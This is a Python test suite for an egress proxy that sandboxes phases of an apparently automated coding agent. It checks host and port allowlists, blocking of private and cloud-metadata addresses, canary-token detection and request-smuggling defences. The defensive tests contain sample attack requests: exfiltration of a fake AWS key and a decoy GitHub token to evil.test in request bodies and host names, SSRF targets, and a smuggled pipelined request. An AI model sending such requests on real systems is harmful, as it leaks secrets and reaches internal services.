"""The egress proxy over real sockets: a client on the channel's Unix socket, origins on 127.0.0.1."""

from __future__ import annotations

import asyncio
import logging
import os
import shutil
import socket
import ssl
import stat
import tempfile
import time
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from contextlib import asynccontextmanager
from ipaddress import ip_address, ip_network
from pathlib import Path
from typing import Any, TypeVar

import pytest

from app.isolation.canary import Canaries
from app.isolation.egress import Connection, EgressPolicy, EgressProxy
from tests.servers import free_port

T = TypeVar("T")

LOOPBACK = (ip_network("127.0.0.0/8"),)
CANARY = "AKIAEGRESSCANARY0001"
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"
ESTABLISHED = b"HTTP/1.1 200 Connection established\r\n\r\n"


def _scan(text: str) -> list[str]:
    return ["aws"] if CANARY in text else []


class FakeResolver:
    """Answers from a table and records every question; an unknown name does not resolve."""

    def __init__(self, table: dict[str, list[str]]) -> None:
        self.table = table
        self.calls: list[tuple[str, int]] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.calls.append((host, port))
        if host not in self.table:
            raise socket.gaierror(socket.EAI_NONAME, "unknown name")
        return list(self.table[host])


class Origin:
    """A server on 127.0.0.1 that echoes, or reads one HTTP request and answers RESPONSE; it records bytes."""

    def __init__(self, *, echo: bool = False) -> None:
        self.echo = echo
        self.received: list[bytearray] = []
        self.closed = 0
        self.port = 0

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        data = bytearray()
        self.received.append(data)
        try:
            if self.echo:
                while chunk := await reader.read(65536):
                    data += chunk
                    writer.write(chunk)
                    await writer.drain()
            else:
                data += await reader.readuntil(b"\r\n\r\n")
                length = next(
                    (
                        int(line.split(b":")[1])
                        for line in data.split(b"\r\n")
                        if line.lower().startswith(b"content-length:")
                    ),
                    0,
                )
                while len(data) - data.index(b"\r\n\r\n") - 4 < length and (
                    chunk := await reader.read(65536)
                ):
                    data += chunk
                writer.write(RESPONSE)
                await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()
            self.closed += 1

    @asynccontextmanager
    async def running(self, tls: ssl.SSLContext | None = None) -> AsyncIterator[Origin]:
        server = await asyncio.start_server(self._serve, "127.0.0.1", 0, ssl=tls)
        self.port = server.sockets[0].getsockname()[1]
        try:
            yield self
        finally:
            server.close()


@pytest.fixture
def sock() -> Iterator[Path]:
    """A socket path short enough for AF_UNIX (tmp_path can pass the 108-byte limit)."""
    directory = Path(tempfile.mkdtemp(prefix="egress-", dir="/tmp"))
    yield directory / "proxy.sock"
    shutil.rmtree(directory, ignore_errors=True)


def _run(scenario: Callable[[], Coroutine[Any, Any, T]]) -> T:
    return asyncio.run(scenario())


async def _read_all(reader: asyncio.StreamReader) -> bytes:
    data = b""
    try:
        async with asyncio.timeout(5):
            while chunk := await reader.read(65536):
                data += chunk
    except ConnectionResetError:
        pass
    return data


async def _exchange(path: Path, data: bytes) -> bytes:
    """Send a request on the channel's socket, half-close, and read all the proxy answers."""
    reader, writer = await asyncio.open_unix_connection(path)
    writer.write(data)
    await writer.drain()
    writer.write_eof()
    answer = await _read_all(reader)
    writer.close()
    return answer


async def _until(condition: Callable[[], bool]) -> None:
    async with asyncio.timeout(5):
        while not condition():
            await asyncio.sleep(0.01)


def _parts(answer: bytes) -> tuple[str, dict[str, str], str]:
    """Status line, headers (lower-cased names) and body of an answer."""
    head, _, body = answer.partition(b"\r\n\r\n")
    status, *lines = head.decode().split("\r\n")
    headers = {name.lower(): value.strip() for name, _, value in (line.partition(":") for line in lines)}
    return status, headers, body.decode()


def _decisions(records: list[Connection]) -> list[tuple[str, str, int, bool, str]]:
    return [(r.method, r.host, r.port, r.allowed, r.rule) for r in records]


# --- allowed traffic ---------------------------------------------------------------------------------


def test_a_connect_tunnel_relays_both_ways_and_counts_the_bytes(sock: Path) -> None:
    async def scenario() -> tuple[bytes, bytes, list[Connection], int]:
        async with Origin(echo=True).running() as origin:
            policy = EgressPolicy(frozenset({"127.0.0.1"}), frozenset({origin.port}), LOOPBACK)
            async with EgressProxy().channel(sock, "implement", policy) as channel:
                reader, writer = await asyncio.open_unix_connection(sock)
                writer.write(f"CONNECT 127.0.0.1:{origin.port} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                established = await reader.readexactly(len(ESTABLISHED))
                writer.write(b"ping through the tunnel")
                echoed = await reader.readexactly(23)
                writer.close()
                await _until(lambda: origin.closed == 1 and channel.records[0].seconds > 0)
            return established, echoed, channel.records, origin.port

    established, echoed, records, port = _run(scenario)
    assert established == ESTABLISHED
    assert echoed == b"ping through the tunnel"
    [record] = records
    assert _decisions(records) == [("CONNECT", "127.0.0.1", port, True, "allowlist")]
    assert (record.bytes_up, record.bytes_down) == (23, 23)
    assert abs(record.started_at - time.time()) < 10 and 0 < record.seconds < 10


def test_plain_http_is_forwarded_in_origin_form_with_the_host_of_the_target(sock: Path) -> None:
    async def scenario() -> tuple[bytes, bytes, list[Connection], int, list[tuple[str, int]]]:
        async with Origin().running() as origin:
            resolver = FakeResolver({"registry.test": ["127.0.0.1"]})
            policy = EgressPolicy(frozenset({"registry.test"}), frozenset({origin.port}), LOOPBACK)
            async with EgressProxy(resolve=resolver).channel(sock, "setup", policy) as channel:
                answer = await _exchange(
                    sock,
                    f"GET http://Registry.Test:{origin.port}/simple/pkg/?q=1 HTTP/1.1\r\n"
                    "Host: elsewhere.example\r\nProxy-Authorization: Basic c2VjcmV0\r\n"
                    "Proxy-Connection: keep-alive\r\nConnection: keep-alive\r\n"
                    "User-Agent: pip/24\r\n\r\n".encode(),
                )
                await _until(lambda: channel.records[0].bytes_down > 0)
            return answer, bytes(origin.received[0]), channel.records, origin.port, resolver.calls

    answer, received, records, port, calls = _run(scenario)
    assert answer == RESPONSE
    assert received.decode().split("\r\n") == [
        "GET /simple/pkg/?q=1 HTTP/1.1",
        f"Host: registry.test:{port}",
        "User-Agent: pip/24",
        "Connection: close",
        "",
        "",
    ]
    assert calls == [("registry.test", port)]  # resolved once, then that address was used
    assert _decisions(records) == [("GET", "registry.test", port, True, "allowlist")]
    assert (records[0].bytes_up, records[0].bytes_down) == (len(received), len(RESPONSE))


def test_plain_http_forwards_one_request_body_and_nothing_pipelined_after_it(sock: Path) -> None:
    async def scenario() -> tuple[bytes, bytes]:
        async with Origin().running() as origin:
            policy = EgressPolicy(frozenset({"127.0.0.1"}), frozenset({origin.port}), LOOPBACK)
            async with EgressProxy().channel(sock, "setup", policy):
                answer = await _exchange(
                    sock,
                    f"POST http://127.0.0.1:{origin.port}/upload HTTP/1.1\r\nContent-Length: 5\r\n\r\n"
                    "helloGET http://smuggled.test/ HTTP/1.1\r\nHost: smuggled.test\r\n\r\n".encode(),
                )
            return answer, bytes(origin.received[0])

    answer, received = _run(scenario)
    assert answer == RESPONSE
    assert received.endswith(b"Content-Length: 5\r\nConnection: close\r\n\r\nhello")
    assert b"smuggled" not in received


def test_an_unreachable_upstream_is_a_502_on_an_allowed_record(sock: Path) -> None:
    port = free_port()

    async def scenario() -> tuple[bytes, list[Connection]]:
        policy = EgressPolicy(frozenset({"127.0.0.1"}), frozenset({port}), LOOPBACK)
        async with EgressProxy(connect_timeout=2).channel(sock, "test", policy) as channel:
            answer = await _exchange(sock, f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n".encode())
        return answer, channel.records

    answer, records = _run(scenario)
    assert _parts(answer)[0] == "HTTP/1.1 502 Bad Gateway"
    assert _decisions(records) == [("CONNECT", "127.0.0.1", port, True, "upstream unreachable")]


# --- denials ------------------------------------------------------------------------------------------


def test_an_unlisted_host_gets_a_403_a_person_can_act_on(
    sock: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    resolver = FakeResolver({})

    async def scenario() -> tuple[bytes, list[Connection], list[Connection]]:
        policy = EgressPolicy(frozenset({"pypi.org"}))
        async with EgressProxy(resolve=resolver).channel(sock, "implement", policy) as channel:
            answer = await _exchange(sock, b"GET http://evil.test/x HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        return answer, channel.records, channel.denied()

    answer, records, denied = _run(scenario)
    status, headers, body = _parts(answer)
    assert status == "HTTP/1.1 403 Forbidden"
    assert headers["content-type"] == "text/plain"
    assert headers["x-auto-code-egress"] == "denied"
    assert body == (
        "auto-code egress proxy: evil.test:80 denied (not in the allowlist of implement) for the implement"
        " phase. Ask the operator to add the host to EGRESS_ALLOW_IMPLEMENT if this phase needs it.\n"
    )
    assert _decisions(records) == [("GET", "evil.test", 80, False, "not in the allowlist of implement")]
    assert denied == records
    assert resolver.calls == []  # an unlisted name is never looked up
    [logged] = [r for r in caplog.records if r.getMessage() == "egress denied"]
    assert (logged.levelno, vars(logged)["host"], vars(logged)["rule"]) == (
        logging.WARNING,
        "evil.test",
        "not in the allowlist of implement",
    )


def test_the_allowlist_matches_exact_host_names_only(sock: Path) -> None:
    async def scenario() -> tuple[list[bytes], list[Connection], int]:
        async with Origin(echo=True).running() as origin:
            resolver = FakeResolver({"pypi.org": ["127.0.0.1"]})
            policy = EgressPolicy(frozenset({"pypi.org"}), frozenset({origin.port}), LOOPBACK)
            async with EgressProxy(resolve=resolver).channel(sock, "setup", policy) as channel:
                answers = [
                    await _exchange(sock, f"CONNECT {host}:{origin.port} HTTP/1.1\r\n\r\n".encode())
                    for host in (
                        "evil-pypi.org",
                        "pypi.org.evil.test",
                        "evil.pypi.org",
                        "pypi.org..",
                        "PyPI.ORG.",
                    )
                ]
            return answers, channel.records, origin.port

    answers, records, port = _run(scenario)
    assert [_parts(answer)[0] for answer in answers[:4]] == ["HTTP/1.1 403 Forbidden"] * 4
    assert answers[4] == ESTABLISHED
    denied = "not in the allowlist of setup"
    assert _decisions(records) == [
        ("CONNECT", "evil-pypi.org", port, False, denied),
        ("CONNECT", "pypi.org.evil.test", port, False, denied),
        ("CONNECT", "evil.pypi.org", port, False, denied),
        ("CONNECT", "pypi.org.", port, False, denied),
        ("CONNECT", "pypi.org", port, True, "allowlist"),
    ]


def test_a_port_outside_the_policy_is_denied_before_anything_else(sock: Path) -> None:
    resolver = FakeResolver({"pypi.org": ["151.101.0.223"]})

    async def scenario() -> tuple[bytes, list[Connection]]:
        async with EgressProxy(resolve=resolver).channel(
            sock, "setup", EgressPolicy(frozenset({"pypi.org"}))
        ) as ch:
            answer = await _exchange(sock, b"CONNECT pypi.org:22 HTTP/1.1\r\n\r\n")
        return answer, ch.records

    answer, records = _run(scenario)
    assert _parts(answer)[2].startswith("auto-code egress proxy: pypi.org:22 denied (port 22 not allowed)")
    assert _decisions(records) == [("CONNECT", "pypi.org", 22, False, "port 22 not allowed")]
    assert resolver.calls == []


@pytest.mark.parametrize(
    ("request_line", "answers", "rule"),
    [
        ("CONNECT registry.test:{port}", ["127.0.0.1"], "resolves to a private address 127.0.0.1"),
        (
            "GET http://registry.test:{port}/",
            ["93.184.216.34", "10.0.0.1"],
            "resolves to a private address 10.0.0.1",
        ),
        ("GET http://169.254.169.254:{port}/latest/meta-data/", [], "is a private address 169.254.169.254"),
        ("CONNECT [::1]:{port}", [], "is a private address ::1"),
        ("CONNECT [::ffff:127.0.0.1]:{port}", [], "is a private address ::ffff:7f00:1"),
    ],
)
def test_listed_hosts_with_private_addresses_are_denied(
    sock: Path, request_line: str, answers: list[str], rule: str
) -> None:
    async def scenario() -> tuple[bytes, list[Connection], Origin]:
        async with Origin(echo=True).running() as origin:
            resolver = FakeResolver({"registry.test": answers})
            hosts = frozenset({"registry.test", "169.254.169.254", "::1", "::ffff:127.0.0.1"})
            policy = EgressPolicy(hosts, frozenset({origin.port}))  # no trusted_nets
            async with EgressProxy(resolve=resolver).channel(sock, "test", policy) as channel:
                line = request_line.format(port=origin.port)
                answer = await _exchange(sock, f"{line} HTTP/1.1\r\n\r\n".encode())
            return answer, channel.records, origin

    answer, [record], origin = _run(scenario)
    assert _parts(answer)[0] == "HTTP/1.1 403 Forbidden"
    assert (record.allowed, record.rule, record.port) == (False, rule, origin.port)
    assert origin.received == []


def test_no_address_outside_global_unicast_passes(sock: Path) -> None:
    bad = [
        "127.0.0.2", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0",
        "224.0.0.1", "240.0.0.1", "255.255.255.255", "192.0.2.1", "::1", "::", "fe80::1", "fc00::1",
        "fd12:3456::1", "ff02::1", "fec0::1", "::ffff:10.0.0.1", "::ffff:169.254.169.254", "2002:a00:1::1",
        "64:ff9b::a9fe:a9fe",
    ]  # fmt: skip
    table = {f"h{index}.test": [address] for index, address in enumerate(bad)}

    async def scenario() -> list[Connection]:
        policy = EgressPolicy(frozenset(table), frozenset({443}))
        async with EgressProxy(resolve=FakeResolver(table)).channel(sock, "test", policy) as channel:
            for host in table:
                await _exchange(sock, f"CONNECT {host}:443 HTTP/1.1\r\n\r\n".encode())
        return channel.records

    records = _run(scenario)
    assert [record.rule for record in records] == [
        f"resolves to a private address {ip_address(a)}" for a in bad
    ]
    assert not any(record.allowed for record in records)


# --- canaries -----------------------------------------------------------------------------------------


def test_a_canary_split_across_two_writes_never_reaches_the_upstream(sock: Path) -> None:
    body = f"token={CANARY}&more=1".encode()

    async def scenario() -> tuple[bytes, bytes, list[Connection], list[str]]:
        async with Origin().running() as origin:
            policy = EgressPolicy(frozenset({"127.0.0.1"}), frozenset({origin.port}), LOOPBACK)
            async with EgressProxy().channel(sock, "implement", policy, scan=_scan) as channel:
                reader, writer = await asyncio.open_unix_connection(sock)
                head = (
                    f"POST http://127.0.0.1:{origin.port}/u HTTP/1.1\r\nContent-Length: {len(body)}\r\n\r\n"
                )
                writer.write(head.encode() + body[:10])
                await writer.drain()
                await _until(lambda: b"token=AKIA" in b"".join(origin.received))
                writer.write(body[10:])
                await writer.drain()
                answer = await _read_all(reader)
                writer.close()
                await _until(lambda: origin.closed == 1)
            return answer, bytes(origin.received[0]), channel.records, channel.tripped

    answer, received, records, tripped = _run(scenario)
    assert answer == b""  # cut, no response relayed
    assert received.endswith(b"\r\n\r\ntoken=AKIA")  # the first half went; the chunk completing it did not
    assert CANARY.encode() not in received
    assert [(record.allowed, record.rule) for record in records] == [(False, "canary: aws")]
    assert tripped == ["aws"]


def test_a_canary_in_a_connect_host_is_cut_before_any_lookup(
    sock: Path, caplog: pytest.LogCaptureFixture
) -> None:
    resolver = FakeResolver({})

    async def scenario() -> tuple[bytes, list[Connection], list[str]]:
        policy = EgressPolicy(frozenset({"pypi.org"}))
        async with EgressProxy(resolve=resolver).channel(sock, "implement", policy, scan=_scan) as channel:
            answer = await _exchange(sock, f"CONNECT {CANARY}.evil.test:443 HTTP/1.1\r\n\r\n".encode())
        return answer, channel.records, channel.tripped

    answer, records, tripped = _run(scenario)
    assert answer == b""
    assert _decisions(records) == [("CONNECT", f"{CANARY.lower()}.evil.test", 443, False, "canary: aws")]
    assert tripped == ["aws"]
    assert resolver.calls == []
    assert [r.levelno for r in caplog.records if r.getMessage() == "egress canary tripped"] == [logging.ERROR]


def test_a_decoy_lower_cased_into_a_host_name_is_still_found(sock: Path) -> None:
    """Host names ignore case, so an exfiltration by DNS-style name may fold it; the decoys' scan does too."""
    canaries = Canaries.from_seed("egress-test")
    token = canaries.value("GITHUB_TOKEN").lower()

    async def scenario() -> list[str]:
        policy = EgressPolicy(frozenset({"pypi.org"}))
        async with EgressProxy(resolve=FakeResolver({})).channel(
            sock, "agent", policy, scan=canaries.find
        ) as channel:
            await _exchange(sock, f"CONNECT {token}.evil.test:443 HTTP/1.1\r\n\r\n".encode())
        return channel.tripped

    assert _run(scenario) == ["GITHUB_TOKEN"]


def test_a_failing_scanner_closes_that_connection_and_the_channel_keeps_serving(
    sock: Path, caplog: pytest.LogCaptureFixture
) -> None:
    def explode(text: str) -> list[str]:
        raise RuntimeError("scanner broke")

    async def scenario() -> tuple[bytes, bytes]:
        async with EgressProxy().channel(sock, "implement", EgressPolicy(), scan=explode):
            first = await _exchange(sock, b"CONNECT pypi.org:443 HTTP/1.1\r\n\r\n")
            second = await _exchange(sock, b"HELLO\r\n\r\n")
        return first, second

    first, second = _run(scenario)
    assert first == b""
    assert _parts(second)[0] == "HTTP/1.1 400 Bad Request"
    assert [r.getMessage() for r in caplog.records].count("egress connection failed") == 1


# --- malformed requests -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("request_head", "status"),
    [
        (b"HELLO\r\n\r\n", "400 Bad Request"),
        (b"GET /relative HTTP/1.1\r\nHost: pypi.org\r\n\r\n", "400 Bad Request"),
        (b"GET https://pypi.org/ HTTP/1.1\r\n\r\n", "400 Bad Request"),
        (b"CONNECT pypi.org HTTP/1.1\r\n\r\n", "400 Bad Request"),
        (b"CONNECT pypi.org:99999 HTTP/1.1\r\n\r\n", "400 Bad Request"),
        (b"CONNECT [::zz]:443 HTTP/1.1\r\n\r\n", "400 Bad Request"),
        (b"GET http://user:pw@pypi.org/ HTTP/1.1\r\n\r\n", "400 Bad Request"),
        (b"GET http://pypi.org/ HTTP/2.0\r\n\r\n", "400 Bad Request"),
        (b"GET http://pypi.org/\nX: y HTTP/1.1\r\n\r\n", "400 Bad Request"),
        (b"GET http://pypi.org/ HTTP/1.1\r\nBad Header: x\r\n\r\n", "400 Bad Request"),
        (
            b"POST http://pypi.org/ HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
            "400 Bad Request",
        ),
        (b"POST http://pypi.org/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", "411 Length Required"),
    ],
)
def test_malformed_requests_are_refused(sock: Path, request_head: bytes, status: str) -> None:
    async def scenario() -> tuple[bytes, list[Connection]]:
        async with EgressProxy().channel(sock, "test", EgressPolicy(frozenset({"pypi.org"}))) as channel:
            answer = await _exchange(sock, request_head)
        return answer, channel.records

    answer, records = _run(scenario)
    status_line, _, body = _parts(answer)
    assert status_line == f"HTTP/1.1 {status}"
    assert body.startswith("auto-code egress proxy: ")
    assert _decisions(records) == [("", "", 0, False, "bad request")]


def test_https_targets_are_told_to_use_connect(sock: Path) -> None:
    async def scenario() -> bytes:
        async with EgressProxy().channel(sock, "test", EgressPolicy()):
            return await _exchange(sock, b"GET https://pypi.org/ HTTP/1.1\r\n\r\n")

    assert "CONNECT" in _parts(_run(scenario))[2]


def test_an_oversize_head_gets_431(sock: Path) -> None:
    async def scenario() -> bytes:
        async with EgressProxy().channel(sock, "test", EgressPolicy()):
            return await _exchange(
                sock, b"GET http://pypi.org/ HTTP/1.1\r\nX-Big: " + b"a" * 70_000 + b"\r\n\r\n"
            )

    status, headers, _ = _parts(_run(scenario))
    assert status == "HTTP/1.1 431 Request Header Fields Too Large"
    assert headers["connection"] == "close"


# --- life cycle ---------------------------------------------------------------------------------------


def test_closing_the_channel_cuts_an_open_tunnel(sock: Path) -> None:
    async def scenario() -> tuple[float, bytes, float, list[Connection], int]:
        async with Origin(echo=True).running() as origin:
            policy = EgressPolicy(frozenset({"127.0.0.1"}), frozenset({origin.port}), LOOPBACK)
            async with EgressProxy().channel(sock, "implement", policy) as channel:
                reader, writer = await asyncio.open_unix_connection(sock)
                writer.write(f"CONNECT 127.0.0.1:{origin.port} HTTP/1.1\r\n\r\n".encode() + b"abc")
                await reader.readexactly(len(ESTABLISHED) + 3)
                started = time.monotonic()
            closing = time.monotonic() - started
            after = await _read_all(reader)
            cut = time.monotonic() - started
            writer.close()
            await _until(lambda: origin.closed == 1)
            return closing, after, cut, channel.records, origin.closed

    closing, after, cut, records, origin_closed = _run(scenario)
    assert closing < 1.0 and cut < 1.0
    assert after == b""
    assert origin_closed == 1  # the upstream side was cut too
    assert [(r.allowed, r.bytes_up, r.bytes_down) for r in records] == [(True, 3, 3)]


def test_an_idle_tunnel_is_closed(sock: Path) -> None:
    async def scenario() -> tuple[bytes, float]:
        async with Origin(echo=True).running() as origin:
            policy = EgressPolicy(frozenset({"127.0.0.1"}), frozenset({origin.port}), LOOPBACK)
            async with EgressProxy(idle_timeout=0.3).channel(sock, "implement", policy):
                reader, writer = await asyncio.open_unix_connection(sock)
                writer.write(f"CONNECT 127.0.0.1:{origin.port} HTTP/1.1\r\n\r\n".encode())
                await reader.readexactly(len(ESTABLISHED))
                started = time.monotonic()
                after = await _read_all(reader)
                waited = time.monotonic() - started
                writer.close()
            return after, waited

    after, waited = _run(scenario)
    assert after == b""
    assert 0.25 <= waited < 3


def test_the_socket_is_private_replaces_a_stale_one_and_is_removed(sock: Path) -> None:
    path = sock.parent / "runs" / "r1" / "egress.sock"
    path.parent.mkdir(parents=True)
    stale = socket.socket(socket.AF_UNIX)
    stale.bind(str(path))
    stale.close()  # leaves the file behind, as a crashed service would

    async def scenario() -> int:
        async with EgressProxy().channel(path, "implement", EgressPolicy()):
            return os.stat(path).st_mode

    mode = _run(scenario)
    assert stat.S_ISSOCK(mode) and stat.S_IMODE(mode) == 0o600
    assert not path.exists()


def test_the_parent_directory_is_made_and_a_regular_file_is_never_removed(sock: Path) -> None:
    made = sock.parent / "new" / "egress.sock"
    blocker = sock.parent / "not-a-socket"
    blocker.write_text("keep me")

    async def scenario() -> bool:
        async with EgressProxy().channel(made, "setup", EgressPolicy()):
            existed = made.exists()
        with pytest.raises(OSError):
            async with EgressProxy().channel(blocker, "setup", EgressPolicy()):
                pass
        return existed

    assert _run(scenario) is True
    assert blocker.read_text() == "keep me"


def test_a_record_round_trips_through_its_dict() -> None:
    record = Connection("setup", "CONNECT", "pypi.org", 443, True, "allowlist", 10, 20, 1700000000.5, 1.25)
    data: dict[str, Any] = record.to_dict()
    assert data["rule"] == "allowlist" and data["bytes_down"] == 20
    assert Connection.from_dict({**data, "later_field": 1}) == record
